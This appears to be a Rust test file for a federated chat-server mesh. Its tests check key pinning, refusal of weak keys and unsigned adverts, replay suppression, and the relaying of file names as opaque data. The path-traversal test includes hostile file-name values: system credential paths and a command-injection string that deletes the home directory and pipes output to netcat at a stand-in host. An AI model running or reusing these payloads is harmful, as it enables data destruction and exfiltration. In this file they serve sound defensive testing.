        .iter()
        .filter(|f| {
            server_of(f.to) == Some(s2)
                && server_of(f.from) != Some(s1)
                && payload_str(&f.env, "user_id") == a
        })
        .cloned()
        .collect();
    assert_eq!(to_s2.len(), 1);
    assert_eq!(server_of(to_s2[0].from), Some(s0));
    assert_eq!(to_s2[0].env.from, sim.server(s1).id());

    let everyone = ids(&[&a, &b, &c]);
    assert_eq!(sim_list(&mut sim, bob), everyone);
    assert_eq!(sim_list(&mut sim, carol), everyone);
    assert_eq!(
        sim.server(s2).location(&a),
        Some(&Location::Server(sim.server(s1).id().into()))
    );

    // Alice leaves: her server's USER_REMOVE reaches s2 through s0 as well.
    sim.disconnect_user(alice);
    sim.run_for(Duration::from_secs(1));
    assert_eq!(sim_list(&mut sim, bob), ids(&[&b, &c]));
    assert_eq!(sim_list(&mut sim, carol), ids(&[&b, &c]));
    // ...and comes back.
    sim.connect_user(alice, s1);
    sim.run_for(Duration::from_secs(1));
    assert_eq!(sim_list(&mut sim, bob), everyone);
}

// ---------------------------------------------------------------- case 21: key pinning

#[test]
fn case_21_a_known_server_id_with_a_different_key_is_refused() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    let q = n.peer(Q, 3);
    n.clear();
    let bogus = key_wire(IMPOSTER_KEY);
    let pinned_store_ops = |n: &Node| {
        n.actions
            .iter()
            .filter(|(_, a)| matches!(a, Action::Store(StoreOp::PinServer { pubkey, .. }) if *pubkey == bogus))
            .count()
    };
    let body = json!({"host": "evil.test", "port": 6666, "pubkey": bogus});

    // As the first frame of a new link: ANNOUNCE, HELLO_JOIN, HELLO_LINK, signed by the
    // imposter's key or not signed at all.
    for t in ["SERVER_ANNOUNCE", "SERVER_HELLO_JOIN", "SERVER_HELLO_LINK"] {
        for sign in [true, false] {
            let link = n.connect();
            let env = raw(t, P, "*", n.ts(), body.clone());
            let env = if sign { signed(IMPOSTER_KEY, env) } else { env };
            let mark = n.events.len();
            n.send(link, &env);
            // One refusal, counted once, against this link.
            assert_eq!(n.rejected_since(mark), [(link, ErrorCode::BadKey)], "{t}");
            assert_eq!(n.take_errors(link), ["BAD_KEY"], "{t} signed={sign}");
            assert_eq!(n.close_codes(link), [1008], "{t}");
            assert!(n.out.is_empty(), "{t}: no WELCOME, nothing to anyone");
        }
    }
    // On an identified link: Q relays an ANNOUNCE claiming P's id (signed by the
    // imposter), and P itself tries to announce another key.
    let mark = n.events.len();
    n.send(
        q,
        &signed(
            IMPOSTER_KEY,
            raw("SERVER_ANNOUNCE", P, "*", n.ts(), body.clone()),
        ),
    );
    assert_eq!(n.rejected_since(mark), [(q, ErrorCode::InvalidSig)]);
    let mark = n.events.len();
    n.send(
        p,
        &signed(2, raw("SERVER_ANNOUNCE", P, "*", n.ts(), body.clone())),
    );
    assert_eq!(n.rejected_since(mark), [(p, ErrorCode::BadKey)]);

    // Nothing changed: P is pinned to key 2, still linked on its link, never redialled.
    assert_eq!(pinned_store_ops(&n), 0);
    assert!(n.dials().is_empty());
    assert!(n.out.is_empty());
    assert_eq!(n.server.linked_servers(), ids(&[P, Q]));
    assert!(n.close_codes(p).is_empty());
    n.send(p, &signed(2, advert(P, CAROL, 7, n.ts())));
    assert_eq!(n.server.location(CAROL), Some(&Location::Server(P.into())));
    let mark = n.events.len();
    n.send(p, &signed(IMPOSTER_KEY, advert(P, DAVE, 8, n.ts())));
    assert_eq!(n.rejected_since(mark), [(p, ErrorCode::InvalidSig)]);
    assert_eq!(n.server.location(DAVE), None);

    // The same id with its own key still links (a reconnect), replacing the old link.
    let again = n.connect();
    let hello = ServerHelloLink {
        host: "peer2.test".into(),
        port: peer_port(2),
        pubkey: key_wire(2),
        caps: Vec::new(),
    };
    n.send(again, &signed(2, Envelope::new(P, SUT, n.ts(), hello)));
    assert!(n.take_errors(again).is_empty());
    assert_eq!(n.close_codes(p), [1000], "duplicate link replaced");
}

// --------------------------------------------------------- case 22: backdoor regression

#[test]
fn case_22_weak_keys_are_refused_from_servers_and_in_adverts() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    let q = n.peer(Q, 3);
    n.clear();
    for (name, weak) in weak_keys() {
        let body = json!({"host": "weak.test", "port": 7777, "pubkey": weak});
        for t in ["SERVER_HELLO_JOIN", "SERVER_HELLO_LINK", "SERVER_ANNOUNCE"] {
            let link = n.connect();
            n.send(link, &raw(t, R, "*", n.ts(), body.clone()));
            assert_eq!(n.take_errors(link), ["BAD_KEY"], "{name} {t}");
            assert_eq!(n.close_codes(link), [1008], "{name} {t}");
        }
        // A linked server announcing a new server with a weak key.
        let mark = n.events.len();
        n.send(p, &signed(2, raw("SERVER_ANNOUNCE", R, "*", n.ts(), body)));
        assert_eq!(n.rejected_since(mark).len(), 1, "{name}");
        // An advert carrying a weak user key.
        let mut ad = advert(P, CAROL, 7, n.ts());
        ad.payload
            .insert("pubkey".into(), Value::String(weak.clone()));
        let mark = n.events.len();
        n.send(p, &signed(2, ad));
        assert_eq!(n.rejected_since(mark), [(p, ErrorCode::BadKey)], "{name}");
        assert!(n.take(q).is_empty(), "{name}: not forwarded");
        assert!(n.out.is_empty());
    }
    assert_eq!(n.server.known_servers(), ids(&[P, Q]));
    assert!(n.server.online_users().is_empty());
    assert!(n.dials().is_empty());
}

#[test]
fn case_22_an_unsigned_user_advertise_is_refused_from_servers_and_users_alike() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    let q = n.peer(Q, 3);
    let bob = n.user(BOB, 6);
    n.clear();
    // From a linked server: sig absent, or "" (read as absent).
    for sig in [None, Some("")] {
        let mut ad = advert(P, CAROL, 7, n.ts());
        ad.sig = sig.map(str::to_owned);
        let mut frame = ad.encode();
        if sig == Some("") {
            let text = String::from_utf8(frame).unwrap();
            frame = text
                .replacen(",\"to\"", ",\"sig\":\"\",\"to\"", 1)
                .into_bytes();
        }
        let mark = n.events.len();
        n.recv(p, &frame);
        assert_eq!(
            n.rejected_since(mark),
            [(p, ErrorCode::InvalidSig)],
            "{sig:?}"
        );
        assert!(
            n.out.is_empty(),
            "{sig:?}: not forwarded, not relayed to users"
        );
    }
    // As the first frame of an unidentified link, or from a user.
    let stranger = n.connect();
    n.send(stranger, &advert(P, CAROL, 7, n.ts()));
    assert_eq!(n.take_errors(stranger), ["FORBIDDEN"]);
    n.send(bob, &advert(BOB, CAROL, 7, n.ts()));
    assert_eq!(n.take_errors(bob), ["FORBIDDEN"]);
    assert!(n.take(p).is_empty() && n.take(q).is_empty());
    assert_eq!(n.server.location(CAROL), None);
    assert_eq!(n.list(bob, BOB), [BOB]);
}

#[test]
fn case_22_replayed_dms_deliveries_and_adverts_are_suppressed_in_the_mesh() {
    let (mut sim, s) = mesh(22, 2);
    let alice = sim.add_user(5);
    let bob = sim.add_user(6);
    sim.connect_user(alice, s[0]);
    sim.run_for(Duration::from_secs(1));
    let mark = sim.events().len();
    // Every MSG_DIRECT, SERVER_DELIVER and USER_ADVERTISE is replayed 2 s later.
    let replayed: Rc<RefCell<usize>> = Rc::default();
    let count = Rc::clone(&replayed);
    sim.set_hook(Box::new(move |f: &mut InFlight| {
        let Ok(env) = Envelope::decode(&f.frame, &Limits::default()) else {
            return Verdict::Deliver;
        };
        let to_server = matches!(f.to, Endpoint::Server { .. });
        let replay = matches!(
            env.msg_type,
            MsgType::MsgDirect | MsgType::ServerDeliver | MsgType::UserAdvertise
        );
        if to_server && replay {
            *count.borrow_mut() += 1;
            Verdict::Replay(Duration::from_secs(2))
        } else {
            Verdict::Deliver
        }
    }));
    sim.connect_user(bob, s[1]);
    sim.run_for(Duration::from_secs(1));
    let tag = sim.send_dm(alice, bob);
    sim.run_for(Duration::from_secs(5));
    // Bob's advert to s0, Alice's MSG_DIRECT to s0, the SERVER_DELIVER to s1.
    assert_eq!(*replayed.borrow(), 3);
    assert_eq!(sim.user(bob).deliveries_of(&tag), 1);
    let bob_id = sim.user(bob).id.clone();
    for &server in &s {
        let events = sim_events_since(&sim, mark, server);
        assert_eq!(
            duplicate_events(&events),
            if server == s[0] { 2 } else { 1 }
        );
        assert_eq!(online_events(&events, &bob_id), 1);
    }
    let heard = sim
        .user(alice)
        .received(&MsgType::UserAdvertise)
        .filter(|e| payload_str(e, "user_id") == bob_id)
        .count();
    assert_eq!(heard, 1, "Alice hears of Bob once");
}

#[test]
fn case_22_a_file_name_with_path_traversal_is_relayed_as_opaque_data_only() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    let q = n.peer(Q, 3);
    let alice = n.user(ALICE, 5);
    let bob = n.user(BOB, 6);
    n.advertise(p, P, 2, CAROL, 7);
    n.clear();
    let names = [
        "../../etc/passwd",
        "/etc/shadow",
        "..\\..\\windows\\system32\\config\\sam",
        "$(rm -rf ~); `id` | nc evil.test 1 > x.txt",
    ];
    let file_id = "f0f0f0f0-f0f0-4f0f-8f0f-f0f0f0f0f0f0";
    for (i, name) in names.iter().enumerate() {
        let ts = n.ts() + u64::try_from(i).unwrap();
        let start = |to: &str, mode: &str| {
            raw(
                "FILE_START",
                ALICE,
                to,
                ts,
                json!({"file_id": file_id, "name": name, "size": 446, "sha256": "00".repeat(32), "mode": mode}),
            )
        };
        let chunk = |to: &str| {
            raw(
                "FILE_CHUNK",
                ALICE,
                to,
                ts,
                json!({"file_id": file_id, "index": 0, "ciphertext": opaque_ciphertext(22)}),
            )
        };
        let end = |to: &str| raw("FILE_END", ALICE, to, ts, json!({"file_id": file_id}));

        // To a local user: the three frames arrive exactly as sent.
        for frame in [start(BOB, "dm"), chunk(BOB), end(BOB)] {
            n.send(alice, &frame);
            let out = n.take(bob);
            assert_eq!(out.len(), 1, "{name}");
            assert_eq!(out[0].raw, frame.encode(), "{name}: relayed unchanged");
        }
        // To a remote user: to her server only, same payload, signed by us.
        for frame in [start(CAROL, "dm"), chunk(CAROL), end(CAROL)] {
            n.send(alice, &frame);
            let out = n.take(p);
            assert_eq!(out.len(), 1, "{name}");
            let e = &out[0].env;
            assert_eq!(
                (e.msg_type.clone(), e.from.as_str(), e.to.as_str(), e.ts),
                (frame.msg_type.clone(), ALICE, CAROL, ts)
            );
            assert_eq!(e.payload, frame.payload, "{name}");
            assert!(verifies(e, 1));
        }
        // To the public channel: every other local user and every server with users.
        let public = start("public", "public");
        n.send(alice, &public);
        assert_eq!(n.take(bob)[0].raw, public.encode());
        assert_eq!(n.take(p)[0].env.payload, public.payload);
        assert!(n.take(q).is_empty(), "Q hosts nobody");
        assert!(n.take(alice).is_empty(), "no errors: {name}");
        assert!(n.out.is_empty());
    }
    // And from a remote sender, relayed by her server.
    let from_carol = signed(
        2,
        raw(
            "FILE_START",
            CAROL,
            BOB,
            n.ts(),
            json!({"file_id": file_id, "name": "../../../root/.ssh/authorized_keys", "size": 1, "mode": "dm"}),
        ),
    );
    n.send(p, &from_carol);
    let out = n.take(bob);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].env.payload, from_carol.payload);

    // The server has no file I/O: the only actions are Dial/Close/Store (checked on
    // every drain), and no stored record carries a file name or anything of the files.
    for (_, action) in &n.actions {
        let text = format!("{action:?}");
        for needle in [
            "passwd", "shadow", "system32", "rm -rf", ".ssh", file_id, "FILE",
        ] {
            assert!(!text.contains(needle), "{action:?}");
        }
    }
    assert!(n.dials().is_empty());
}
